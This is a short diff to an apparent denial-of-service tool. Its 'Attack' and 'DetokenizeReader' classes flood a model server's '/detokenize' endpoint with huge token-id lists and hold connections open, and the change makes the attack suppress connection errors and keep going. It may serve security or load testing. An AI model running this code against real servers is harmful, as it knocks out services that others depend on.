@@ -102,7 +102,8 @@ class Attack:
         reader, writer = await self.connect()
         try:
             writer.write(request(method, path, body, self.key))
-            await writer.drain()
+            with contextlib.suppress(ConnectionError):  # it may be refused before it is read
+                await writer.drain()
             self.place(index)
             status = await self.answer(index, reader)
             length, line = 0, b"x"
@@ -284,9 +285,10 @@ class DetokenizeReader(SlowReader):
         # As many as the server takes.
         self.ids = 250000
         for self.ids in (250000, self.context):
-            status, _ = await self.ask(-1, "POST", "/detokenize", {"ids": [self.token] * self.ids})
-            if status == 200:
-                break
+            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
+                status, _ = await self.ask(-1, "POST", "/detokenize", {"ids": [self.token] * self.ids})
+                if status == 200:
+                    break
 
     def body(self):
         return "/detokenize", {"ids": [self.token] * self.ids}
